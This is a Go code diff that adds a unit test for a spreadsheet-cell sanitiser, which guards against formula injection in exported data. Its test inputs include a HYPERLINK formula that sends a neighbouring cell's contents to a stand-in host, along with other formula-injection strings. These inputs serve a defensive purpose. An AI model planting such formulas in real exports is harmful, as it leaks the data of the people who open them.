@@ -76,3 +76,15 @@ func TestEmailPhone(t *testing.T) {
 		t.Error("phone")
 	}
 }
+
+func TestSpreadsheetCell(t *testing.T) {
+	for in, want := range map[string]string{
+		`=HYPERLINK("http://x.invalid/?"&A2,"Bấm")`: `'=HYPERLINK("http://x.invalid/?"&A2,"Bấm")`,
+		"+1+2": "'+1+2", "-1+cmd": "'-1+cmd", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx", "\rx": "'\rx",
+		"-12,5": "-12,5", "Phòng Văn hóa": "Phòng Văn hóa", "": "",
+	} {
+		if got := SpreadsheetCell(in); got != want {
+			t.Errorf("%q → %q, want %q", in, got, want)
+		}
+	}
+}
